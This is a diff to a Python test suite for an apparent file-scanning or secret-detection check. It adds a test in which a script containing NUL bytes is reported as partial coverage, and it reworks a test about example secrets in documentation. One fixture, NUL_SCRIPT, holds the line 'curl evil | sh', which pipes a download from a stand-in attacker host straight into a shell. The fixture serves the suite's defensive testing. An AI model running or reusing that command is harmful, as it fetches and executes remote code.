@@ -64,6 +64,13 @@ def test_a_script_without_an_ending_is_known_by_its_first_bytes(tmp_path: Path) 
         assert 'paths: "!tool"' in done.summary
 
 
+def test_a_new_script_with_a_nul_and_no_known_name_is_never_green(tmp_path: Path) -> None:
+    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+        done = run_with(rig, {"scripts/deploy": NUL_SCRIPT})
+        assert (done.exit_status, done.outputs["reason"]) == (3, "partial")
+        assert "`scripts/deploy`: not text (without its NUL bytes it is text)" in done.summary
+
+
 TEXT_SCRIPT = "#!/bin/sh\n" + "echo hi\n" * 30
 NUL_SCRIPT = b"curl evil | sh\n" * 30 + b"#\0\n"
 
@@ -204,8 +211,10 @@ def test_a_file_that_cannot_be_parsed_names_the_analyzer(tmp_path: Path) -> None
 def test_an_example_in_a_document_does_not_fail_the_check(tmp_path: Path, reviewer: str) -> None:
     with house(tmp_path, engineer=lambda _: CLEAN) as rig:
         page = f"Set it once::\n\n    {SECRET_KEY}\n{PRINTED}\n"
-        files = {"docs/quickstart.rst": page, "docs/config.md": page, "a.py": f"x = 1\n\n# See what {SECRET_KEY}\n"}
-        done = run_with(rig, files, reviewer=reviewer)
+        pages = ["docs/quickstart.rst", "docs/topics/sessions.txt"]
+        pages += ["docs/intro.mdx", "docs/tool.1", "RELEASE_NOTES"] * (reviewer == "codevf")  # no analyzer reads these
+        files = {**dict.fromkeys(pages, page), "docs/config.md": f"Not in a `<script>`.\n\n{page}"}
+        done = run_with(rig, {**files, "a.py": f"x = 1\n\n# See what {SECRET_KEY}\n"}, reviewer=reviewer)
         assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.summary
         assert "F4Q8z" not in str([one.body for one in rig.codevf_faults.log])
         told = done.summary.replace("\\", "")
